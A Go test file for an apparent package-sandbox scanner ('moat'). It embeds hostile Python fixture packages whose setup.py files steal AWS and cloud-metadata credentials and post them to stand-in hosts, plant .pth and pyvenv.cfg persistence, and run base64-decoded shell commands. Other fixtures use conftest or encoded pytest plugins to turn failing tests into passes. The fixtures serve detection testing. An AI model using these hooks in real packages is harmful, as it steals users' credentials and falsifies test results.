package pkgtest_test

import (
	"cmp"
	"encoding/base64"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/moat-sandbox/moat"
	"github.com/moat-sandbox/moat/moattest"
	"github.com/moat-sandbox/moat/pkgtest"
	"github.com/moat-sandbox/moat/report"
)

// writeProject writes files (name → content) into a new directory.
func writeProject(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, content := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// findings of a category in a phase (and in the report's top level,
// which must hold every phase's).
func findings(t *testing.T, rep *pkgtest.Report, phase string, cat moat.Category) []moat.Finding {
	t.Helper()
	var out []moat.Finding
	for _, f := range phase_(rep, phase).Findings {
		if f.Phase != phase {
			t.Errorf("a finding of phase %s says phase %q: %+v", phase, f.Phase, f)
		}
		for _, e := range f.Evidence {
			if e.Phase != phase {
				t.Errorf("evidence of phase %s says phase %q: %+v", phase, e.Phase, e)
			}
		}
		if f.Category == cat {
			out = append(out, f)
		}
	}
	return out
}

func phase_(rep *pkgtest.Report, name string) *pkgtest.PhaseResult { return phase(rep, name) }

func logFindings(t *testing.T, rep *pkgtest.Report) {
	t.Helper()
	for _, f := range rep.Findings {
		t.Logf("[%s] %s %s: %s", f.Phase, f.Severity, f.Category, f.Summary)
	}
}

// checkConsistent: every phase that ran has its events stamped and
// bounded, and the top level lists exactly the phases' findings.
func checkConsistent(t *testing.T, rep *pkgtest.Report) {
	t.Helper()
	n := 0
	for _, p := range rep.Phases {
		if p.Findings == nil {
			t.Errorf("phase %s: findings is null", p.Name)
		}
		if len(p.Events) > pkgtest.MaxPhaseEvents {
			t.Errorf("phase %s: %d events, more than %d", p.Name, len(p.Events), pkgtest.MaxPhaseEvents)
		}
		for _, e := range p.Events {
			if e.Phase != p.Name {
				t.Fatalf("phase %s: event stamped %q: %+v", p.Name, e.Phase, e)
			}
		}
		n += len(p.Findings)
	}
	if len(rep.Findings) != n || rep.Verdict != report.Verdict(rep.Findings) {
		t.Errorf("top level: %d findings (phases: %d), verdict %s", len(rep.Findings), n, rep.Verdict)
	}
}

// An sdist whose setup.py reads the planted AWS credentials and tries to
// send them out: credential access and network, attributed to install.
func TestReportInstallHook(t *testing.T) {
	t.Parallel()
	dir := writeProject(t, map[string]string{
		"setup.py": `import os, socket
from setuptools import setup
try:
    with open(os.path.expanduser("~/.aws/credentials")) as f:
        loot = f.read()
except OSError as e:
    loot = str(e)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(("203.0.113.7", 443))
    s.sendall(loot.encode())
except OSError as e:
    print("MOAT-TEST: connect failed:", e)
setup(name="stealer", version="0.1", packages=["stealer"])
`,
		"stealer/__init__.py": "VALUE = 1\n",
	})
	tg, err := pkgtest.DetectTarget(makeSdist(t, dir, "stealer-0.1"), false)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := run(t, pkgtest.Config{Target: tg, Phases: []string{"install", "import"}})
	if err != nil || rep.Status != pkgtest.StatusPassed {
		dump(t, rep)
		t.Fatalf("status %s, err %v", rep.Status, err)
	}
	logFindings(t, rep)
	checkConsistent(t, rep)
	cred := findings(t, rep, "install", moat.CategoryCredentialAccess)
	if len(cred) == 0 || !strings.Contains(cred[0].Summary, "/.aws/credentials") || moat.Severity(cred[0].Severity).Rank() < moat.SeverityHigh.Rank() {
		t.Errorf("no credential-access finding of the install phase for ~/.aws/credentials: %+v", cred)
	}
	if net := findings(t, rep, "install", moat.CategoryNetwork); len(net) == 0 || !strings.Contains(net[0].Summary, "203.0.113.7:443") {
		t.Errorf("no network finding of the install phase naming 203.0.113.7:443: %+v", net)
	}
	for _, p := range []string{"venv", "import"} {
		for _, f := range phase(rep, p).Findings {
			if f.Severity.Rank() > moat.SeverityLow.Rank() {
				t.Errorf("phase %s: finding above low: %+v", p, f)
			}
		}
	}
	if rep.Findings[0].Phase != "install" || rep.Verdict != "high" && rep.Verdict != "critical" {
		t.Errorf("top level: verdict %s, first finding %+v", rep.Verdict, rep.Findings[0])
	}
}

// TestInstallSinkholeHTTPS: by default the install phase has a sinkhole.
// A setup.py that takes the instance's credentials from the metadata
// address and posts the planted AWS key over HTTPS gets its answers, and
// the report of the install phase shows the request in clear: the
// metadata credential access and the exfiltration, seen by the sink.
func TestInstallSinkholeHTTPS(t *testing.T) {
	t.Parallel()
	installSinkhole(t, pkgtest.Config{})
}

// TestInstallSinkholeBackends: the same on docker and podman, whose
// sinkhole moat serves in the container's network namespace (as root),
// and on gVisor: direct (the host's Python and userland), whose sinkhole
// moat serves in a network namespace of the run's own, and with the image
// as Docker's runtime runsc-hostinet.
func TestInstallSinkholeBackends(t *testing.T) {
	t.Parallel()
	image := cmp.Or(os.Getenv("MOAT_TEST_IMAGE"), "moat/python:bookworm")
	for _, name := range []string{"docker", "podman", "gvisor", "gvisor-image"} {
		t.Run(name, func(t *testing.T) {
			backend, _, imageMode := strings.Cut(name, "-")
			b := moattest.RequireBackend(t, backend)
			if os.Geteuid() != 0 {
				t.Skip("a container's sinkhole needs moat as root")
			}
			cfg := pkgtest.Config{Backend: b, Isolation: backend, Image: image}
			switch {
			case name == "gvisor":
				cfg.Image = "" // direct mode: the host's interpreter
			case imageMode:
				moattest.RequireBackend(t, "docker") // runsc-hostinet, Docker's runtime
			}
			installSinkhole(t, cfg)
		})
	}
}

// installSinkhole: a setup.py that steals the credentials and the
// instance metadata's, and posts them over HTTPS, under the install
// phase's default network (cfg's backend; native if none).
func installSinkhole(t *testing.T, cfg pkgtest.Config) {
	t.Helper()
	dir := writeProject(t, map[string]string{
		"setup.py": `import os, urllib.request
from setuptools import setup
loot = open(os.path.expanduser("~/.aws/credentials")).read()
base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
try:
    role = urllib.request.urlopen(base, timeout=5).read().decode()
    imds = urllib.request.urlopen(base + role, timeout=5).read().decode()
    r = urllib.request.urlopen("https://pypi-evil.example/c", data=(loot + imds).encode(), timeout=5)
    print("MOAT-TEST: https", r.status)
except OSError as e:
    print("MOAT-TEST: failed:", e)
setup(name="stealer", version="0.1", packages=["stealer"])
`,
		"stealer/__init__.py": "VALUE = 1\n",
	})
	tg, err := pkgtest.DetectTarget(makeSdist(t, dir, "stealer-0.1"), false)
	if err != nil {
		t.Fatal(err)
	}
	cfg.Target, cfg.Phases = tg, []string{"install"}
	rep, err := run(t, cfg)
	if err != nil || rep.Status != pkgtest.StatusPassed {
		dump(t, rep)
		t.Fatalf("status %s, err %v", rep.Status, err)
	}
	logFindings(t, rep)
	ins := phase(rep, "install")
	if out := ins.Stdout + ins.Stderr; ins.Network != "sinkhole" || !strings.Contains(out, "MOAT-TEST: https 200") {
		t.Fatalf("install: network %s, output %s", ins.Network, tail(out))
	}
	var md, exfil bool
	for _, f := range ins.Findings {
		md = md || f.Category == moat.CategoryCredentialAccess && strings.Contains(f.Summary, "took the fake credentials moat's sink served")
		exfil = exfil || f.Category == moat.CategoryExfiltration && f.Severity == moat.SeverityCritical &&
			strings.Contains(f.Summary, "aws-secret-access-key") && strings.Contains(f.Summary, "imds-aws-secret-access-key") &&
			strings.Contains(f.Summary, "sent over the network")
	}
	if !md || !exfil || rep.Verdict != "critical" {
		t.Errorf("install findings (metadata %v, exfiltration over https %v), verdict %s", md, exfil, rep.Verdict)
	}
}

// A package whose import writes a .pth file with code into the venv's
// site-packages: persistence, attributed to import.
func TestReportImportPersistence(t *testing.T) {
	t.Parallel()
	dir := writeProject(t, map[string]string{
		"setup.py": "from setuptools import setup\nsetup(name=\"persist\", version=\"0.1\", packages=[\"persist\"])\n",
		"persist/__init__.py": `import sysconfig
with open(sysconfig.get_paths()["purelib"] + "/zz_persist.pth", "w") as f:
    f.write("import os; os.environ.setdefault('PERSISTED', '1')\n")
`,
	})
	tg, err := pkgtest.DetectTarget(dir, false)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := run(t, pkgtest.Config{Target: tg, Phases: []string{"install", "import"}})
	if err != nil || rep.Status != pkgtest.StatusPassed {
		dump(t, rep)
		t.Fatalf("status %s, err %v", rep.Status, err)
	}
	logFindings(t, rep)
	checkConsistent(t, rep)
	per := findings(t, rep, "import", moat.CategoryPersistence)
	if len(per) == 0 || !strings.Contains(per[0].Summary, "zz_persist.pth") || per[0].Severity != "high" {
		t.Errorf("no persistence finding of the import phase for zz_persist.pth: %+v", per)
	}
	if got := findings(t, rep, "install", moat.CategoryPersistence); len(got) != 0 {
		t.Errorf("persistence attributed to install: %+v", got)
	}
}

// A benign package: no finding above low in any phase.
func TestReportBenign(t *testing.T) {
	t.Parallel()
	rep, err := run(t, pkgtest.Config{Target: project(t, "calc")})
	if err != nil || rep.Status != pkgtest.StatusPassed {
		dump(t, rep)
		t.Fatalf("status %s, err %v", rep.Status, err)
	}
	logFindings(t, rep)
	checkConsistent(t, rep)
	for _, f := range rep.Findings {
		if f.Severity.Rank() > moat.SeverityLow.Rank() {
			t.Errorf("benign package: [%s] %s %s: %s %+v", f.Phase, f.Severity, f.Category, f.Summary, f.Evidence)
		}
	}
	for _, p := range rep.Phases {
		if len(p.Events) == 0 {
			t.Errorf("phase %s: no events", p.Name)
		}
	}
}

// moat's own processes are never findings: the launcher's `sh -c` that
// runs --command, and pip's lsb_release/uname probes in the install phase
// (the userland gives them a /bin/sh).
func TestReportOwnProcesses(t *testing.T) {
	t.Parallel()
	rep, err := run(t, pkgtest.Config{Target: project(t, "calc"),
		Command: `python -m pytest -q -p no:cacheprovider --junitxml="$MOAT_JUNIT" tests`})
	if err != nil || rep.Status != pkgtest.StatusPassed {
		dump(t, rep)
		t.Fatalf("status %s, err %v", rep.Status, err)
	}
	logFindings(t, rep)
	for _, f := range rep.Findings {
		for _, w := range []string{"lsb_release", "uname", "pytest -q", "getopt"} {
			if strings.Contains(f.Summary, w) {
				t.Errorf("[%s] %s %s names moat's or pip's own %q: %s", f.Phase, f.Severity, f.Category, w, f.Summary)
			}
		}
	}
}

// A package whose conftest.py turns its failing tests into passes: pytest
// says all passed, and moat says the counts are the package's claim
// (a high evasion finding naming the conftest).
func TestReportOutcomeRewrite(t *testing.T) {
	t.Parallel()
	dir := writeProject(t, map[string]string{
		"pyproject.toml":     "[build-system]\nrequires = [\"setuptools>=61\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"liar\"\nversion = \"1.0\"\n",
		"liar/__init__.py":   "def add(a, b):\n    return a - b\n",
		"tests/test_liar.py": "from liar import add\n\ndef test_add():\n    assert add(2, 2) == 4\n\ndef test_more():\n    assert add(1, 1) == 2\n",
		"conftest.py": `import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    out = yield
    rep = out.get_result()
    if rep.failed:
        rep.outcome = "passed"
        rep.longrepr = None
`,
	})
	rep, err := run(t, pkgtest.Config{Target: pkgtest.Target{Path: dir, Kind: pkgtest.KindProject}})
	if err != nil {
		dump(t, rep)
		t.Fatal(err)
	}
	logFindings(t, rep)
	checkConsistent(t, rep)
	if rep.Tests == nil || rep.Tests.Failed != 0 || rep.Tests.Passed != 2 {
		t.Fatalf("the conftest did not rewrite the results: %+v", rep.Tests)
	}
	ok := false
	for _, f := range findings(t, rep, "test", moat.CategoryEvasion) {
		ok = ok || (f.Severity == moat.SeverityHigh && strings.Contains(f.Summary, "/work/src/conftest.py (sets a report's outcome, clears a failure's report)"))
	}
	if !ok || rep.Verdict != "high" {
		dump(t, rep)
		t.Errorf("no high evasion finding naming the conftest; verdict %s", rep.Verdict)
	}
}

// A package that installs a pytest plugin into the venv (a pytest11 entry
// point) that turns its failing tests into passes. The plugin is in clear
// only in site-packages: its setup.py writes it into the build from an
// encoded blob, and removes its build directory after. moat still says
// the counts are the package's claim.
func TestReportPluginOutcomeRewrite(t *testing.T) {
	t.Parallel()
	plugin := `import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    out = yield
    rep = out.get_result()
    if rep.failed:
        rep.outcome = "passed"
        rep.longrepr = None
`
	dir := writeProject(t, map[string]string{
		"pyproject.toml": "[build-system]\nrequires = [\"setuptools>=61\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"liar\"\nversion = \"1.0\"\n\n" +
			"[project.entry-points.pytest11]\nliar_results = \"_liar_results\"\n\n[tool.setuptools]\npackages = [\"liar\"]\n",
		"setup.py": `import atexit, base64, os, shutil
from setuptools import setup
from setuptools.command.build_py import build_py

BLOB = "` + base64.StdEncoding.EncodeToString([]byte(plugin)) + `"

class Build(build_py):
    def run(self):
        super().run()
        with open(os.path.join(self.build_lib, "_liar_results.py"), "wb") as f:
            f.write(base64.b64decode(BLOB))

atexit.register(shutil.rmtree, os.path.join(os.path.dirname(os.path.abspath(__file__)), "build"), True)
setup(cmdclass={"build_py": Build})
`,
		"liar/__init__.py":   "def add(a, b):\n    return a - b\n",
		"tests/test_liar.py": "from liar import add\n\ndef test_add():\n    assert add(2, 2) == 4\n\ndef test_more():\n    assert add(1, 1) == 2\n",
	})
	rep, err := run(t, pkgtest.Config{Target: pkgtest.Target{Path: dir, Kind: pkgtest.KindProject}})
	if err != nil {
		dump(t, rep)
		t.Fatal(err)
	}
	logFindings(t, rep)
	if rep.Tests == nil || rep.Tests.Failed != 0 || rep.Tests.Passed != 2 {
		dump(t, rep)
		t.Fatalf("the plugin did not rewrite the results: %+v", rep.Tests)
	}
	ok := false
	for _, f := range findings(t, rep, "test", moat.CategoryEvasion) {
		ok = ok || (f.Severity == moat.SeverityHigh && strings.Contains(f.Summary, "site-packages/_liar_results.py (sets a report's outcome, clears a failure's report (a module of _liar_results"))
	}
	if !ok || rep.Verdict != "high" {
		dump(t, rep)
		t.Errorf("no high evasion finding naming the plugin; verdict %s", rep.Verdict)
	}
}

// The hostile package whole: its setup.py steals the planted AWS
// key during install and plants a .pth whose import line is past its
// first KiB (it runs in every later phase), and its conftest.py turns
// its failing test into a pass. moat: credential access and persistence
// of the install phase first, the test counts as the package's claim, a
// high verdict.
func TestReportHostilePackage(t *testing.T) {
	t.Parallel()
	dir := writeProject(t, map[string]string{
		"setup.py": `import os, sysconfig
from setuptools import setup
try:
    loot = open(os.path.expanduser("~/.aws/credentials")).read()
except OSError:
    loot = ""
with open(os.path.join(sysconfig.get_paths()["purelib"], "distutils-precedence-fix.pth"), "w") as f:
    f.write("# keep setuptools' distutils first\n" * 60 + "import os; os.environ.setdefault('PERSISTED', '1')\n")
setup(name="liar2", version="1.0", packages=["liar2"])
`,
		"liar2/__init__.py":   "def add(a, b):\n    return a - b\n",
		"tests/test_liar2.py": "from liar2 import add\n\ndef test_add():\n    assert add(2, 2) == 4\n",
		"conftest.py": `import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    out = yield
    out.get_result().outcome = "passed"
`,
	})
	rep, err := run(t, pkgtest.Config{Target: pkgtest.Target{Path: dir, Kind: pkgtest.KindProject}})
	if err != nil {
		dump(t, rep)
		t.Fatal(err)
	}
	logFindings(t, rep)
	checkConsistent(t, rep)
	cred := findings(t, rep, "install", moat.CategoryCredentialAccess)
	per := findings(t, rep, "install", moat.CategoryPersistence)
	var rewrite bool
	for _, f := range findings(t, rep, "test", moat.CategoryEvasion) {
		rewrite = rewrite || (f.Severity == moat.SeverityHigh && strings.Contains(f.Summary, "conftest.py"))
	}
	if len(cred) == 0 || len(per) == 0 || !strings.Contains(per[0].Summary, "distutils-precedence-fix.pth") || !rewrite {
		dump(t, rep)
		t.Errorf("install: credential access %d, persistence %+v; test: outcome rewrite %v", len(cred), per, rewrite)
	}
	if rep.Verdict != "high" && rep.Verdict != "critical" || rep.Findings[0].Phase != "install" {
		t.Errorf("verdict %s, first finding %+v: want high or more, the install phase's first", rep.Verdict, rep.Findings[0])
	}
}

// oncecall's and feature-gen-dt's shapes: the payload is in a submodule
// that `import pkg` does not import, and runs in a daemon thread after
// the import returns. The import phase imports submodules and lets the
// thread finish: credential access of the import phase.
func TestReportSubmoduleThread(t *testing.T) {
	t.Parallel()
	dir := writeProject(t, map[string]string{
		"setup.py":         "from setuptools import setup\nsetup(name=\"lazy\", version=\"0.1\", packages=[\"lazy\"])\n",
		"lazy/__init__.py": "VALUE = 1\n",
		"lazy/once.py": `import os, threading, time
def _run():
    time.sleep(1)
    try:
        open(os.path.expanduser("~/.aws/credentials")).read()
    except OSError:
        pass
threading.Thread(target=_run, daemon=True).start()
`,
	})
	tg, err := pkgtest.DetectTarget(dir, false)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := run(t, pkgtest.Config{Target: tg, Phases: []string{"install", "import"}})
	if err != nil || rep.Status != pkgtest.StatusPassed {
		dump(t, rep)
		t.Fatalf("status %s, err %v", rep.Status, err)
	}
	logFindings(t, rep)
	cred := findings(t, rep, "import", moat.CategoryCredentialAccess)
	if len(cred) == 0 || !strings.Contains(cred[0].Summary, "/.aws/credentials") {
		dump(t, rep)
		t.Errorf("no credential-access finding of the import phase: %+v", cred)
	}
}

// trustypip's shape: an sdist without a single top-level directory (its
// setup.py at the top), which pip builds: moat tests it, and its install
// hook's reverse shell is a finding.
func TestFlatSdist(t *testing.T) {
	t.Parallel()
	dir := writeProject(t, map[string]string{
		"setup.py": `import os
from setuptools import setup
os.system("echo cHl0aG9uMyAtYyAicHJpbnQoMSkiCg== | base64 -d | sh")
setup(name="flat", version="0.1", packages=["flat"])
`,
		"flat/__init__.py": "VALUE = 1\n",
	})
	sdist := filepath.Join(t.TempDir(), "flat-0.1.tar.gz")
	if err := os.WriteFile(sdist, moattest.Sdist(t, dir, ""), 0o644); err != nil {
		t.Fatal(err)
	}
	tg, err := pkgtest.DetectTarget(sdist, false)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := run(t, pkgtest.Config{Target: tg, Phases: []string{"install", "import"}})
	if err != nil || rep.Status != pkgtest.StatusPassed {
		dump(t, rep)
		t.Fatalf("status %s, err %v", rep.Status, err)
	}
	logFindings(t, rep)
	ok := false
	for _, f := range findings(t, rep, "install", moat.CategoryExecution) {
		ok = ok || (f.Severity.Rank() >= moat.SeverityHigh.Rank() && strings.Contains(f.Summary, "decoded a hidden command"))
	}
	if !ok {
		dump(t, rep)
		t.Error("no high execution finding of the install phase for the decoded command")
	}
}

// A setup.py that, once installed, points the venv's pyvenv.cfg at a
// copy of the standard library it made in the venv (red team, session
// 19): every later phase's python then takes its standard library, and
// code run before site, from the package. Was a low verdict; now a high
// persistence finding of the install phase naming pyvenv.cfg.
func TestReportVenvHome(t *testing.T) {
	t.Parallel()
	dir := writeProject(t, map[string]string{
		"setup.py": `import os, sys, sysconfig
from setuptools import setup
setup(name="venvhome", version="1.0", py_modules=["venvhome"])
x = "/work/.venv/.cache-x"
if ("install" in sys.argv or "bdist_wheel" in sys.argv) and not os.path.exists(x):
    std = sysconfig.get_paths()["stdlib"]
    lib = os.path.join(x, "lib", "python%d.%d" % sys.version_info[:2])
    os.makedirs(lib)
    os.makedirs(os.path.join(x, "bin"))
    for n in os.listdir(std):
        if n not in ("sitecustomize.py", "__pycache__"):
            os.symlink(os.path.join(std, n), os.path.join(lib, n))
    exe = os.path.realpath(sys.executable)
    os.symlink(exe, os.path.join(x, "bin", os.path.basename(exe)))
    cfg = "/work/.venv/pyvenv.cfg"
    lines = [l for l in open(cfg).read().splitlines() if not l.startswith("home")]
    open(cfg, "w").write("# " + "x" * 2000 + "\n" + "\n".join(lines) + "\nhome = " + x + "/bin\n")
`,
		"venvhome.py": "X = 1\n",
	})
	rep, err := run(t, pkgtest.Config{Target: pkgtest.Target{Path: dir, Kind: pkgtest.KindProject}, Phases: []string{"install", "import"}})
	if err != nil {
		dump(t, rep)
		t.Fatal(err)
	}
	logFindings(t, rep)
	if !slices.ContainsFunc(findings(t, rep, "install", moat.CategoryPersistence), func(f moat.Finding) bool {
		return f.Severity == moat.SeverityHigh && strings.Contains(f.Summary, "/work/.venv/pyvenv.cfg") && strings.Contains(f.Summary, ".cache-x")
	}) {
		dump(t, rep)
		t.Error("no high persistence finding of the install phase naming pyvenv.cfg and its new home")
	}
}

// An sdist that ships a conftest.py (as most projects with tests do) is
// unpacked by moat in the venv phase: that is no plant (docopt's sdist
// was a high "created a conftest.py" before, session 21). One written by
// the package's setup.py during install is.
func TestReportSdistConftest(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, setup string
		high        bool
	}{
		{"shipped", "from setuptools import setup\nsetup(name='shipped', version='0.1', packages=['shipped'])\n", false},
		// pip builds in a copy: the plant goes where the tests will run
		{"planted", `import glob
from setuptools import setup
for d in glob.glob("/work/src/*/tests"):
    with open(d + "/conftest.py", "w") as f:
        f.write("import os\n")
setup(name="planted", version="0.1", packages=["planted"])
`, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := writeProject(t, map[string]string{
				"setup.py":                c.setup,
				c.name + "/__init__.py":   "def add(a, b):\n    return a + b\n",
				"conftest.py":             "import pytest\n\n@pytest.fixture\ndef two():\n    return 2\n",
				".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: tests\n    name: tests\n    entry: pytest\n    language: system\n",
				".envrc":                  "layout python3\n",
				"tests/test_add.py":       "from " + c.name + " import add\n\ndef test_add(two):\n    assert add(two, two) == 4\n",
			})
			tg, err := pkgtest.DetectTarget(makeSdist(t, dir, c.name+"-0.1"), false)
			if err != nil {
				t.Fatal(err)
			}
			rep, err := run(t, pkgtest.Config{Target: tg, Phases: []string{"install"}})
			if err != nil {
				dump(t, rep)
				t.Fatal(err)
			}
			logFindings(t, rep)
			high := false
			for _, f := range rep.Findings {
				if f.Severity.Rank() > moat.SeverityLow.Rank() {
					high = true
					if !c.high || f.Phase != "install" || !strings.Contains(f.Summary, "conftest.py") {
						t.Errorf("finding %s %s (%s): %s", f.Severity, f.Category, f.Phase, f.Summary)
					}
				}
			}
			if high != c.high {
				dump(t, rep)
				t.Errorf("a finding above low: %v, want %v", high, c.high)
			}
		})
	}
}
